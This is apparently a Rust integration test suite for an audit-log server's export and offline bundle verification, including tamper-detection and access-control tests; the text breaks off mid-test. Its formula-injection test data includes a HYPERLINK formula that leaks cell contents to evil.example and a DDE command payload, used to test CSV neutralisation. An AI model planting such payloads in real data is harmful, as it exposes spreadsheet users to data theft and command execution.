//! Export (SPEC §3 `GET /api/v1/export`, §6 `auditlog export`) and the offline check of an
//! NDJSON export (`auditlog verify --bundle FILE --key KEY`, SPEC §5): CSV that parses back and
//! keeps spreadsheets from running formulas, NDJSON that is the evidence and names the line of
//! every tampering.

use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};

use crate::support::{Client, Reply, Server, create_token, generate, run, tempdir};

// ---------------------------------------------------------------------------------------------
// Helpers

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// Percent-encodes one query-string component (everything but RFC 3986 unreserved bytes).
fn enc(text: &str) -> String {
    let mut out = String::new();
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() || b"-._~".contains(&byte) {
            out.push(byte as char);
        } else {
            out.push_str(&format!("%{byte:02X}"));
        }
    }
    out
}

fn export_path(params: &[(&str, &str)]) -> String {
    let query: Vec<String> = params
        .iter()
        .map(|(name, value)| format!("{}={}", enc(name), enc(value)))
        .collect();
    if query.is_empty() {
        "/api/v1/export".to_owned()
    } else {
        format!("/api/v1/export?{}", query.join("&"))
    }
}

/// A 200 export, or the test fails showing the body.
fn export_ok(client: &Client, params: &[(&str, &str)]) -> Reply {
    let reply = client.get(&export_path(params));
    assert_eq!(reply.status, 200, "{params:?}: {}", reply.text);
    reply
}

/// Appends NDJSON lines to the data directory without a server (`auditlog ingest FILE`).
fn ingest_local(data: &Path, lines: &[String], tenant: &str) {
    let file = data.with_extension(format!("{tenant}.ingest.ndjson"));
    std::fs::write(&file, lines.join("\n") + "\n").expect("write ingest file");
    let out = run(
        data,
        &[
            "ingest",
            file.to_str().expect("utf8 path"),
            "--tenant",
            tenant,
        ],
    );
    assert!(out.status.success(), "ingest: {}", stderr(&out));
}

/// Waits until the server's search index holds all `total` events (search answers 503 while
/// it catches up), so an export does not race the indexer.
fn wait_indexed(client: &Client, total: u64) {
    let started = Instant::now();
    loop {
        let reply = client.get("/api/v1/events?limit=1");
        if reply.status == 200 && reply.json()["total"].as_u64() == Some(total) {
            return;
        }
        assert!(
            started.elapsed() < Duration::from_secs(120),
            "index did not reach {total} events: {} {}",
            reply.status,
            reply.text
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// The tenant's verifier key, as `auditlog key show` prints it.
fn key_show(data: &Path, tenant: &str) -> String {
    let out = run(data, &["key", "show", "--tenant", tenant]);
    assert!(out.status.success(), "key show: {}", stderr(&out));
    stdout(&out).trim().to_owned()
}

/// `auditlog export args…` on the data directory (no server), NDJSON text.
fn export_local(data: &Path, args: &[&str]) -> String {
    let mut all = vec!["export"];
    all.extend_from_slice(args);
    let out = run(data, &all);
    assert_eq!(out.status.code(), Some(0), "export: {}", stderr(&out));
    stdout(&out)
}

fn lines_of(text: &str) -> Vec<String> {
    text.lines().map(str::to_owned).collect()
}

fn write_bundle(dir: &Path, name: &str, lines: &[String]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, lines.join("\n") + "\n").expect("write bundle");
    path
}

/// What `auditlog verify --bundle FILE --key KEY --format json` said.
struct Verdict {
    code: Option<i32>,
    findings: Vec<Value>,
    summary: Value,
    stderr: String,
}

impl Verdict {
    /// (kind, line) of every finding, in order.
    fn kinds_and_lines(&self) -> Vec<(String, u64)> {
        self.findings
            .iter()
            .map(|f| {
                (
                    f["kind"].as_str().expect("kind").to_owned(),
                    f["line"].as_u64().expect("line"),
                )
            })
            .collect()
    }
}

fn verify_bundle(bundle: &Path, key: &str) -> Verdict {
    let scratch = bundle.with_extension("unused-data");
    let out = run(
        &scratch,
        &[
            "verify",
            "--bundle",
            bundle.to_str().expect("utf8 path"),
            "--key",
            key,
            "--format",
            "json",
        ],
    );
    let mut values: Vec<Value> = stdout(&out)
        .lines()
        .map(|line| {
            serde_json::from_str(line).unwrap_or_else(|e| panic!("not a JSON line ({e}): {line}"))
        })
        .collect();
    let summary = values.pop().unwrap_or(Value::Null);
    Verdict {
        code: out.status.code(),
        findings: values,
        summary,
        stderr: stderr(&out),
    }
}

/// The bundle checks clean: exit 0, no findings, the summary says ok and counts the lines.
fn assert_verifies(bundle: &Path, key: &str, event_lines: u64) -> Verdict {
    let verdict = verify_bundle(bundle, key);
    assert_eq!(
        verdict.code,
        Some(0),
        "findings {:?}, summary {}, stderr {}",
        verdict.findings,
        verdict.summary,
        verdict.stderr
    );
    assert!(verdict.findings.is_empty(), "{:?}", verdict.findings);
    assert_eq!(verdict.summary["ok"], json!(true), "{}", verdict.summary);
    assert_eq!(
        verdict.summary["lines"].as_u64(),
        Some(event_lines),
        "{}",
        verdict.summary
    );
    verdict
}

/// Exit 1 and not ok: the bundle has findings.
fn assert_findings(verdict: &Verdict) {
    assert_eq!(
        verdict.code,
        Some(1),
        "findings {:?}, summary {}, stderr {}",
        verdict.findings,
        verdict.summary,
        verdict.stderr
    );
    assert_eq!(verdict.summary["ok"], json!(false), "{}", verdict.summary);
    assert!(!verdict.findings.is_empty(), "{}", verdict.summary);
    assert_eq!(
        verdict.summary["findings"].as_u64(),
        Some(verdict.findings.len() as u64),
        "{}",
        verdict.summary
    );
}

/// Event lines and the trailer of an NDJSON export.
fn split_ndjson(text: &str) -> (Vec<Value>, Value) {
    let mut values: Vec<Value> = text
        .lines()
        .map(|line| {
            serde_json::from_str(line).unwrap_or_else(|e| panic!("not a JSON line ({e}): {line}"))
        })
        .collect();
    let trailer = values.pop().expect("a trailer line");
    assert!(
        trailer["checkpoint"].is_string() && trailer["export"].is_string(),
        "not a trailer: {trailer}"
    );
    (values, trailer)
}

/// The tree size a signed checkpoint note states (its second line).
fn checkpoint_size(trailer: &Value) -> u64 {
    let note = trailer["checkpoint"].as_str().expect("checkpoint note");
    note.lines()
        .nth(1)
        .and_then(|size| size.parse().ok())
        .unwrap_or_else(|| panic!("no tree size in {note:?}"))
}

fn seqs(events: &[Value]) -> Vec<u64> {
    events
        .iter()
        .map(|e| e["seq"].as_u64().expect("seq"))
        .collect()
}

/// A small log on disk and its NDJSON export (made without a server), for tampering with.
struct Fixture {
    _dir: tempfile::TempDir,
    root: PathBuf,
    key: String,
    /// Event lines, then the trailer.
    lines: Vec<String>,
}

const FIXTURE_EVENTS: usize = 60;

fn fixture(seed: u64) -> Fixture {
    let dir = tempdir();
    let root = dir.path().to_owned();
    let data = root.join("data");
    ingest_local(&data, &generate(FIXTURE_EVENTS as u64, seed), "default");
    let lines = lines_of(&export_local(&data, &[]));
    assert_eq!(lines.len(), FIXTURE_EVENTS + 1);
    let key = key_show(&data, "default");
    let fixture = Fixture {
        _dir: dir,
        root,
        key,
        lines,
    };
    assert_verifies(
        &fixture.bundle("pristine.ndjson", &fixture.lines),
        &fixture.key,
        FIXTURE_EVENTS as u64,
    );
    fixture
}

impl Fixture {
    fn bundle(&self, name: &str, lines: &[String]) -> PathBuf {
        write_bundle(&self.root, name, lines)
    }

    /// Checks `lines` as a bundle with the fixture's key: it must have findings.
    fn tampered(&self, name: &str, lines: &[String]) -> Verdict {
        let verdict = verify_bundle(&self.bundle(name, lines), &self.key);
        assert_findings(&verdict);
        verdict
    }
}

/// The cell a spreadsheet-safe CSV holds for `text` (SPEC §3: formula-like cells neutralised).
fn neutralised(text: &str) -> String {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}"),
        _ => text.to_owned(),
    }
}

/// SPEC §3: "one header row, the columns of §7 plus `seq`", by their names in §7.
const CSV_HEADER: [&str; 9] = [
    "seq",
    "User",
    "IP",
    "Date/Time",
    "Primary Key",
    "Action",
    "Table",
    "Message",
    "Data",
];

fn csv_rows(text: &str) -> (Vec<String>, Vec<csv::StringRecord>) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .expect("CSV header")
        .iter()
        .map(str::to_owned)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.unwrap_or_else(|e| panic!("bad CSV record: {e}")))
        .collect();
    (header, rows)
}

/// An RFC 3339 UTC time (`…:SS[.fff]Z`, as many fraction digits as needed) that sorts as text.
fn comparable_time(time: &str) -> String {
    let time = time
        .strip_suffix('Z')
        .unwrap_or_else(|| panic!("not UTC: {time}"));
    let (whole, fraction) = time.split_once('.').unwrap_or((time, ""));
    format!("{whole}.{fraction:0<9}Z")
}

// ---------------------------------------------------------------------------------------------
// CSV

#[test]
fn export_csv_of_100000_events_parses_back_to_the_generated_rows() {
    const COUNT: u64 = 100_000;
    let started = Instant::now();
    let dir = tempdir();
    let data = dir.path().join("data");
    let input = generate(COUNT, 9001);
    ingest_local(&data, &input, "default");
    let ingested = started.elapsed();
    let server = Server::start(&data);
    let client = server.client();
    wait_indexed(&client, COUNT);
    let indexed = started.elapsed();
    let reply = export_ok(&client, &[("format", "csv")]);
    assert!(
        reply.content_type.starts_with("text/csv"),
        "{}",
        reply.content_type
    );
    let exported = started.elapsed();
    let (header, rows) = csv_rows(&reply.text);
    assert_eq!(header, CSV_HEADER);
    assert_eq!(rows.len(), COUNT as usize);
    for (idx, (row, line)) in rows.iter().zip(&input).enumerate() {
        let want: Value = serde_json::from_str(line).expect("generated JSON");
        let field = |name: &str| neutralised(want[name].as_str().unwrap_or_default());
        let seq = idx as u64 + 1;
        assert_eq!(row.len(), CSV_HEADER.len(), "row {seq}: {row:?}");
        assert_eq!(&row[0], seq.to_string().as_str(), "row {seq}: {row:?}");
        assert_eq!(row[1], field("user"), "row {seq}: {row:?}");
        assert_eq!(row[2], field("ip"), "row {seq}: {row:?}");
        assert_eq!(row[5], field("action"), "row {seq}: {row:?}");
        assert_eq!(row[6], field("table"), "row {seq}: {row:?}");
        assert_eq!(row[7], field("message"), "row {seq}: {row:?}");
        let pk = match &want["primary_key"] {
            Value::String(text) => text.clone(),
            Value::Null => String::new(),
            other => other.to_string(),
        };
        assert_eq!(row[4], neutralised(&pk), "row {seq}: {row:?}");
        // The data cell is the before/after/context objects as JSON.
        let data: Value = serde_json::from_str(&row[8])
            .unwrap_or_else(|e| panic!("row {seq}: data is not JSON ({e}): {:?}", &row[8]));
        for side in ["before", "after", "context"] {
            let got = data.get(side).unwrap_or(&Value::Null);
            let expected = want.get(side).unwrap_or(&Value::Null);
            assert_eq!(got, expected, "row {seq}: {side}");
        }
    }
    eprintln!(
        "export_csv 100k: generate+ingest {:.1}s, index {:.1}s, export {:.1}s ({} MB), parse+check {:.1}s",
        ingested.as_secs_f64(),
        (indexed - ingested).as_secs_f64(),
        (exported - indexed).as_secs_f64(),
        reply.text.len() >> 20,
        (started.elapsed() - exported).as_secs_f64()
    );
}

const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
    "+1",
    "-2",
    "@SUM(A1)",
];
/// Only free text and data may hold control characters (SPEC §2).
const CONTROL_LEADS: [&str; 2] = ["\t=1+1", "\r=cmd|' /C calc'!A0"];

/// Events carrying formula payloads: one per payload of FORMULAS in user, table, primary_key,
/// message and inside `after`; one per payload of CONTROL_LEADS in message and `after`.
fn formula_events() -> Vec<Value> {
    let mut events: Vec<Value> = FORMULAS
        .iter()
        .enumerate()
        .map(|(i, p)| {
            json!({
                "id": format!("formula-{i}"),
                "user": p, "ip": "192.0.2.1", "action": "UPDATE", "table": p,
                "primary_key": p, "message": p,
                "before": {"note": "plain"},
                "after": {"note": p, "nested": {"cell": p}},
            })
        })
        .collect();
    events.extend(CONTROL_LEADS.iter().enumerate().map(|(i, p)| {
        json!({
            "id": format!("control-{i}"),
            "user": "mallory", "ip": "192.0.2.2", "action": "UPDATE", "table": "customer",
            "primary_key": "7", "message": p,
            "after": {"note": p},
        })
    }));
    // Harmless cells stay as they are.
    events.push(json!({
        "id": "benign",
        "user": "a=b", "ip": "192.0.2.3", "action": "UPDATE", "table": "customer",
        "primary_key": "42", "message": "credit 1+1 = 2",
        "after": {"note": "=not a cell of its own"},
    }));
    events
}

#[test]
fn export_csv_neutralises_formula_cells_and_ndjson_keeps_them_exactly() {
    let dir = tempdir();
    let data = dir.path().join("data");
    let server = Server::start(&data);
    let client = server.client();
    let events = formula_events();
    let reply = client.post_json(&Value::Array(events.clone()).to_string());
    assert_eq!(reply.status, 201, "{}", reply.text);

    let csv_reply = export_ok(&client, &[("format", "csv")]);
    let (header, rows) = csv_rows(&csv_reply.text);
    assert_eq!(header, CSV_HEADER);
    assert_eq!(rows.len(), events.len());
    for (row, event) in rows.iter().zip(&events) {
        for (column, name) in [
            (1, "user"),
            (4, "primary_key"),
            (6, "table"),
            (7, "message"),
        ] {
            let sent = event[name].as_str().expect("string field");
            let cell = &row[column];
            assert_eq!(cell, neutralised(sent), "{name} of {}", event["id"]);
            if sent.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                assert_eq!(cell, format!("'{sent}"), "{name} of {}", event["id"]);
            } else {
                assert_eq!(cell, sent, "{name} of {}", event["id"]);
            }
        }
        // No cell of the row starts with something a spreadsheet would run.
        for (column, cell) in row.iter().enumerate() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "column {} of {}: {cell:?}",
                CSV_HEADER[column],
                event["id"]
            );
        }
        // The data cell is JSON (it starts with `{`) and holds the payload unchanged.
        let data: Value = serde_json::from_str(&row[8])
            .unwrap_or_else(|e| panic!("data of {} is not JSON ({e}): {:?}", event["id"], &row[8]));
        assert_eq!(data["after"], event["after"], "{}", event["id"]);
    }

    // The NDJSON export is the evidence: every byte as sent.
    let ndjson = export_ok(&client, &[]);
    let (lines, _) = split_ndjson(&ndjson.text);
    assert_eq!(lines.len(), events.len());
    for (line, event) in lines.iter().zip(&events) {
        for name in ["id", "user", "table", "primary_key", "message", "after"] {
            assert_eq!(line[name], event[name], "{name} of {}", event["id"]);
        }
    }
    let bundle = write_bundle(dir.path(), "formulas.ndjson", &lines_of(&ndjson.text));
    assert_verifies(&bundle, &key_show(&data, "default"), events.len() as u64);
}

// ---------------------------------------------------------------------------------------------
// NDJSON, checked offline

#[test]
fn export_ndjson_of_every_event_verifies_offline_with_the_key() {
    let dir = tempdir();
    let data = dir.path().join("data");
    let input = generate(300, 9002);
    ingest_local(&data, &input, "default");
    let server = Server::start(&data);
    let client = server.client();
    wait_indexed(&client, 300);
    let reply = export_ok(&client, &[]);
    assert!(
        reply.content_type.starts_with("application/x-ndjson"),
        "{}",
        reply.content_type
    );
    let (events, trailer) = split_ndjson(&reply.text);
    assert_eq!(seqs(&events), (1..=300).collect::<Vec<u64>>());
    for (event, line) in events.iter().zip(&input) {
        let sent: Value = serde_json::from_str(line).expect("generated JSON");
        assert_eq!(event["id"], sent["id"]);
        assert_eq!(event["tenant"], json!("default"));
        for extra in ["received_at", "leaf_hash"] {
            assert!(event[extra].is_string(), "{extra}: {event}");
        }
        assert!(event["proof"].is_array(), "{event}");
        // SPEC §3, §5, the auditor's recipe: the line without `leaf_hash` and `proof` is the
        // stored event, and SHA-256(0x00 ‖ its RFC 8785 form) is the leaf hash. serde_json
        // sorts keys and writes these ASCII keys and plain numbers as RFC 8785 does.
        let mut stored = event.as_object().expect("object").clone();
        let leaf = stored.remove("leaf_hash").expect("leaf_hash");
        stored.remove("proof").expect("proof");
        let mut hasher = Sha256::new();
        hasher.update([0u8]);
        hasher.update(serde_json::to_vec(&stored).expect("json"));
        assert_eq!(
            leaf.as_str(),
            Some(STANDARD.encode(hasher.finalize()).as_str()),
            "{event}"
        );
    }
    assert_eq!(checkpoint_size(&trailer), 300);
    let bundle = write_bundle(dir.path(), "all.ndjson", &lines_of(&reply.text));

    // The key as `key show` prints it, as the API serves it, and in a file.
    let shown = key_show(&data, "default");
    let served = client.get("/api/v1/public-key");
    assert_eq!(served.status, 200, "{}", served.text);
    assert_eq!(served.text.trim(), shown);
    let key_file = dir.path().join("verifier.key");
    std::fs::write(&key_file, format!("{shown}\n")).expect("write key");
    for key in [shown.as_str(), key_file.to_str().expect("utf8 path")] {
        let verdict = assert_verifies(&bundle, key, 300);
        assert_eq!(
            verdict.summary["tree_size"].as_u64(),
            Some(300),
            "{}",
            verdict.summary
        );
    }

    // The text form says ok too.
    let out = run(
        &data,
        &[
            "verify",
            "--bundle",
            bundle.to_str().expect("utf8 path"),
            "--key",
            &shown,
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(stdout(&out).starts_with("ok"), "{}", stdout(&out));
}

#[test]
fn export_ndjson_filtered_and_in_descending_order_verifies_offline() {
    let dir = tempdir();
    let data = dir.path().join("data");
    let input = generate(400, 9003);
    ingest_local(&data, &input, "default");
    let want: Vec<u64> = input
        .iter()
        .enumerate()
        .filter(|(_, line)| {
            serde_json::from_str::<Value>(line).expect("json")["action"] == "UPDATE"
        })
        .map(|(i, _)| i as u64 + 1)
        .rev()
        .collect();
    assert!(want.len() > 10 && want.len() < 400, "{}", want.len());
    let server = Server::start(&data);
    let client = server.client();
    wait_indexed(&client, 400);
    let key = key_show(&data, "default");

    let reply = export_ok(&client, &[("q", "action:UPDATE"), ("order", "desc")]);
    let (events, trailer) = split_ndjson(&reply.text);
    assert_eq!(seqs(&events), want);
    assert_eq!(checkpoint_size(&trailer), 400);
    let bundle = write_bundle(dir.path(), "updates.ndjson", &lines_of(&reply.text));
    let verdict = assert_verifies(&bundle, &key, want.len() as u64);
    assert_eq!(verdict.summary["tree_size"].as_u64(), Some(400));
    // The signed query is shown: a filtered export verifies, and says what it holds.
    assert_eq!(
        verdict.summary["query"], "action:UPDATE",
        "{}",
        verdict.summary
    );

    // Sorted by another column (the paged path of the export) it verifies as well, and a
    // query with a tab, a newline or quotes is signed intact.
    let query = "action:UPDATE\t-user:\"no body\"\r\n-table:x";
    let reply = export_ok(&client, &[("q", query), ("sort", "user"), ("order", "asc")]);
    let (events, _) = split_ndjson(&reply.text);
    let users: Vec<&str> = events
        .iter()
        .map(|e| e["user"].as_str().expect("user"))
        .collect();
    assert!(users.is_sorted(), "{users:?}");
    let mut got = seqs(&events);
    got.sort_unstable();
    let mut want_sorted = want.clone();
    want_sorted.sort_unstable();
    assert_eq!(got, want_sorted);
    let bundle = write_bundle(dir.path(), "by-user.ndjson", &lines_of(&reply.text));
    let verdict = assert_verifies(&bundle, &key, want.len() as u64);
    assert_eq!(verdict.summary["query"], query, "{}", verdict.summary);
}

// ---------------------------------------------------------------------------------------------
// Tampering

#[test]
fn export_bundle_with_an_edited_user_is_altered_at_that_line() {
    let fx = fixture(9101);
    let mut lines = fx.lines.clone();
    let mut event: Value = serde_json::from_str(&lines[9]).expect("json");
    assert_ne!(event["user"], json!("someone.else"));
    event["user"] = json!("someone.else");
    lines[9] = event.to_string();
    let verdict = fx.tampered("altered.ndjson", &lines);
    assert_eq!(verdict.kinds_and_lines(), [("altered".to_owned(), 10)]);
    assert_eq!(verdict.findings[0]["seq"].as_u64(), Some(10));
}

#[test]
fn export_bundle_with_a_deleted_line_is_missing_at_the_line_after_the_gap() {
    let fx = fixture(9102);
    let mut lines = fx.lines.clone();
    lines.remove(19);
    let verdict = fx.tampered("missing.ndjson", &lines);
    assert_eq!(verdict.kinds_and_lines(), [("missing".to_owned(), 20)]);
    // The export note lists every line's seq: the missing event is named.
    assert_eq!(verdict.findings[0]["seq"].as_u64(), Some(20));
}

#[test]
fn export_bundle_whose_seq_list_was_rewritten_to_hide_a_deleted_line_has_a_bad_signature() {
    let fx = fixture(9111);
    let mut lines = fx.lines.clone();
    let mut trailer: Value = serde_json::from_str(&lines.pop().expect("trailer")).expect("json");
    lines.remove(19);
    let seqs: Vec<u64> = lines
        .iter()
        .map(|l| {
            serde_json::from_str::<Value>(l).expect("json")["seq"]
                .as_u64()
                .expect("seq")
        })
        .collect();
    trailer["seqs"] = json!(STANDARD.encode(auditlog_server::encode_seqs(&seqs)));
    lines.push(trailer.to_string());
    let verdict = fx.tampered("relisted.ndjson", &lines);
    let trailer_line = lines.len() as u64;
    assert_eq!(
        verdict.kinds_and_lines(),
        [("bad_signature".to_owned(), trailer_line)]
    );
}

#[test]
fn export_bundle_with_a_line_moved_away_names_only_that_line_as_reordered() {
    let fx = fixture(9110);
    let mut lines = fx.lines.clone();
    let moved = lines.remove(4);
    lines.insert(49, moved);
    let verdict = fx.tampered("moved-later.ndjson", &lines);
    assert_eq!(verdict.kinds_and_lines(), [("reordered".to_owned(), 50)]);
    assert_eq!(verdict.findings[0]["seq"].as_u64(), Some(5));
    // Moved earlier: again only the moved line, not the 40 it jumped over.
    let mut lines = fx.lines.clone();
    let moved = lines.remove(49);
    lines.insert(9, moved);
    let verdict = fx.tampered("moved-earlier.ndjson", &lines);
    assert_eq!(verdict.kinds_and_lines(), [("reordered".to_owned(), 10)]);
    assert_eq!(verdict.findings[0]["seq"].as_u64(), Some(50));
    // A line moved and another deleted: both named, the deleted one by its seq.
    let mut lines = fx.lines.clone();
    let moved = lines.remove(4);
    lines.insert(49, moved);
    lines.remove(39);
    let verdict = fx.tampered("moved-and-deleted.ndjson", &lines);
    assert_eq!(
        verdict.kinds_and_lines(),
        [("missing".to_owned(), 40), ("reordered".to_owned(), 49)]
    );
    assert_eq!(verdict.findings[0]["seq"].as_u64(), Some(41));
}

#[test]
fn export_bundle_with_two_adjacent_lines_swapped_is_reordered_at_the_first() {
    let fx = fixture(9103);
    let mut lines = fx.lines.clone();
    lines.swap(29, 30);
    let verdict = fx.tampered("reordered.ndjson", &lines);
    assert_eq!(verdict.kinds_and_lines(), [("reordered".to_owned(), 30)]);
}

#[test]
fn export_bundle_with_a_line_copied_in_names_the_inserted_line() {
    let fx = fixture(9104);
    let mut lines = fx.lines.clone();
    let copy = lines[4].clone();
    lines.insert(39, copy);
    let verdict = fx.tampered("inserted.ndjson", &lines);
    let found = verdict.kinds_and_lines();
    assert_eq!(found[0], ("inserted".to_owned(), 40), "{found:?}");
    assert!(
        found.iter().all(|(kind, _)| kind == "inserted"),
        "{found:?}"
    );
}

#[test]
fn export_bundle_without_its_last_lines_is_truncated() {
    let fx = fixture(9105);
    let mut lines = fx.lines.clone();
    let trailer = lines.pop().expect("trailer");
    lines.truncate(FIXTURE_EVENTS - 3);
    lines.push(trailer);
    let verdict = fx.tampered("truncated.ndjson", &lines);
    assert_eq!(
        verdict.kinds_and_lines(),
        [("truncated".to_owned(), FIXTURE_EVENTS as u64 - 2)]
    );
}

#[test]
fn export_bundle_with_the_trailer_of_another_data_directory_has_a_bad_signature() {
    let fx = fixture(9106);
    let other = fixture(9106);
    // The same events (same seed; only `received_at` differs) in another data directory,
    // under another key.
    assert_ne!(other.key, fx.key);
    let ids = |lines: &[String]| -> Vec<Value> {
        lines[..FIXTURE_EVENTS]
            .iter()
            .map(|line| serde_json::from_str::<Value>(line).expect("json")["id"].clone())
            .collect()
    };
    assert_eq!(ids(&fx.lines), ids(&other.lines));
    let mut lines = fx.lines.clone();
    *lines.last_mut().expect("trailer") = other.lines.last().expect("trailer").clone();
    let verdict = fx.tampered("foreign-trailer.ndjson", &lines);
    let found = verdict.kinds_and_lines();
    let trailer_line = FIXTURE_EVENTS as u64 + 1;
    assert!(
        found
            .iter()
            .any(|(kind, line)| kind == "bad_signature" && *line == trailer_line),
        "{found:?}"
    );
    assert!(
        found.iter().all(|(kind, _)| kind == "bad_signature"),
        "{found:?}"
    );
}

#[test]
fn export_bundle_with_the_trailer_of_another_tenant_has_a_bad_signature() {
    let fx = fixture(9107);
    let data = fx.root.join("data");
    ingest_local(&data, &generate(FIXTURE_EVENTS as u64, 9107), "other");
    let other = lines_of(&export_local(&data, &["--tenant", "other"]));
    assert_eq!(other.len(), FIXTURE_EVENTS + 1);
    assert_ne!(key_show(&data, "other"), fx.key);
    // The other tenant's export verifies with its own key.
    assert_verifies(
        &fx.bundle("other-tenant.ndjson", &other),
        &key_show(&data, "other"),
        FIXTURE_EVENTS as u64,
    );
    let mut lines = fx.lines.clone();
    *lines.last_mut().expect("trailer") = other.last().expect("trailer").clone();
    let verdict = fx.tampered("other-tenant-trailer.ndjson", &lines);
    let found = verdict.kinds_and_lines();
    assert!(
        found
            .iter()
            .any(|(kind, line)| kind == "bad_signature" && *line == FIXTURE_EVENTS as u64 + 1),
        "{found:?}"
    );
}

#[test]
fn export_bundle_checked_with_the_wrong_key_has_a_bad_signature() {
    let fx = fixture(9108);
    let other = tempdir();
    let other_data = other.path().join("data");
    ingest_local(&other_data, &generate(1, 1), "default");
    let wrong = key_show(&other_data, "default");
    assert_ne!(wrong, fx.key);
    let verdict = verify_bundle(&fx.bundle("wrong-key.ndjson", &fx.lines), &wrong);
    assert_findings(&verdict);
    let found = verdict.kinds_and_lines();
    assert!(
        found
            .iter()
            .any(|(kind, line)| kind == "bad_signature" && *line == FIXTURE_EVENTS as u64 + 1),
        "{found:?}"
    );
    assert!(
        found.iter().all(|(kind, _)| kind == "bad_signature"),
        "{found:?}"
    );
}

#[test]
fn export_bundle_whose_last_line_is_not_a_trailer_exits_2() {
    let fx = fixture(9109);
    let mut without_trailer = fx.lines.clone();
    without_trailer.pop();
    let mut cut_mid_line = fx.lines.clone();
    let last = cut_mid_line.pop().expect("trailer");
    cut_mid_line.push(last[..last.len() / 2].to_owned());
    for (name, lines) in [
        ("no-trailer.ndjson", without_trailer),
        ("cut-trailer.ndjson", cut_mid_line),
    ] {
        let verdict = verify_bundle(&fx.bundle(name, &lines), &fx.key);
        assert_eq!(
            verdict.code,
            Some(2),
            "{name}: findings {:?} summary {} stderr {}",
            verdict.findings,
            verdict.summary,
            verdict.stderr
        );
        assert!(
            verdict.stderr.contains(&format!("line {}", lines.len())),
            "{name}: {}",
            verdict.stderr
        );
    }
    // An empty file is unusable too.
    let verdict = verify_bundle(&fx.bundle("empty.ndjson", &[]), &fx.key);
    assert_eq!(verdict.code, Some(2), "{}", verdict.stderr);
}

// ---------------------------------------------------------------------------------------------
// What an export covers, and who may take one

#[test]
fn export_includes_an_event_acknowledged_just_before_the_request() {
    let dir = tempdir();
    let data = dir.path().join("data");
    let server = Server::start(&data);
    let client = server.client();
    let key = key_show(&data, "default");
    for round in 0..5u64 {
        let id = format!("late-{round}");
        let reply = client.post_json(
            &json!({
                "id": id, "user": format!("late.user{round}"), "ip": "192.0.2.9",
                "action": "LOGIN", "table": "session",
            })
            .to_string(),
        );
        assert_eq!(reply.status, 201, "{}", reply.text);
        let seq = reply.json()["events"][0]["seq"].as_u64().expect("seq");
        assert_eq!(seq, round + 1);

        // At once: no waiting for a checkpoint or the index.
        let all = export_ok(&client, &[]);
        let (events, trailer) = split_ndjson(&all.text);
        assert_eq!(
            seqs(&events),
            (1..=seq).collect::<Vec<u64>>(),
            "round {round}"
        );
        assert_eq!(events.last().expect("event")["id"], json!(id));
        assert!(checkpoint_size(&trailer) >= seq, "{trailer}");
        let bundle = write_bundle(dir.path(), "late.ndjson", &lines_of(&all.text));
        assert_verifies(&bundle, &key, seq);

        let filtered = export_ok(&client, &[("q", &format!("user:late.user{round}"))]);
        let (events, _) = split_ndjson(&filtered.text);
        assert_eq!(seqs(&events), [seq], "round {round}");
    }
}

#[test]
fn export_needs_the_read_scope() {
    let dir = tempdir();
    let data = dir.path().join("data");
    let server = Server::start(&data);
    let client = server.client();
    let reply = client.post_json(
        &json!({"user": "u", "ip": "192.0.2.1", "action": "LOGIN", "table": "session"}).to_string(),
    );
    assert_eq!(reply.status, 201, "{}", reply.text);
    let ingest_only = create_token(&data, "default", "ingest", "ingest-only");
    let read_only = create_token(&data, "default", "read", "read-only");
    for format in ["ndjson", "csv"] {
        let path = export_path(&[("format", format)]);
        let reply = client.with_token(Some(&ingest_only)).get(&path);
        assert_eq!(reply.status, 403, "{format}: {}", reply.text);
        assert!(!reply.text.contains("192.0.2.1"), "{}", reply.text);
        let reply = client.with_token(None).get(&path);
        assert_eq!(reply.status, 401, "{format}: {}", reply.text);
        let reply = client.with_token(Some(&read_only)).get(&path);
        assert_eq!(reply.status, 200, "{format}: {}", reply.text);
    }
}

#[test]
fn export_rejects_bad_parameters_with_400() {
    let dir = tempdir();
    let data = dir.path().join("data");
    let server = Server::start(&data);
    let client = server.client();
    for (params, code) in [
        (&[("format", "xlsx")][..], "invalid_parameter"),
        (&[("format", "CSV")][..], "invalid_parameter"),
        (&[("format", "")][..], "invalid_parameter"),
        (&[("limit", "10")][..], "unknown_parameter"),
        (&[("cursor", "abc")][..], "unknown_parameter"),
        (&[("sort", "password")][..], "invalid_parameter"),
        (&[("order", "sideways")][..], "invalid_parameter"),
        (&[("q", "user:")][..], "invalid_query"),
        (
            &[("format", "csv"), ("format", "ndjson")][..],
            "duplicate_parameter",
        ),
    ] {
        let reply = client.get(&export_path(params));
        assert_eq!(reply.status, 400, "{params:?}: {}", reply.text);
        assert_eq!(reply.code(), code, "{params:?}: {}", reply.text);
    }
}

#[test]
fn export_shows_only_the_tokens_tenant() {
    let dir = tempdir();
    let data = dir.path().join("data");
    let server = Server::start(&data);
    let admin = server.client();
    let other = admin.with_token(Some(&create_token(
        &data,
        "other",
        "ingest,read",
        "other-tenant",
    )));
    let ours = json!({"user": "ours", "ip": "192.0.2.1", "action": "LOGIN", "table": "s"});
    let theirs = json!({"user": "theirs", "ip": "192.0.2.2", "action": "LOGIN", "table": "s"});
    assert_eq!(admin.post_json(&ours.to_string()).status, 201);
    assert_eq!(other.post_json(&theirs.to_string()).status, 201);
    assert_eq!(other.post_json(&theirs.to_string()).status, 201);
    let (events, trailer) = split_ndjson(&export_ok(&other, &[]).text);
    assert_eq!(events.len(), 2);
    assert!(
        events
            .iter()
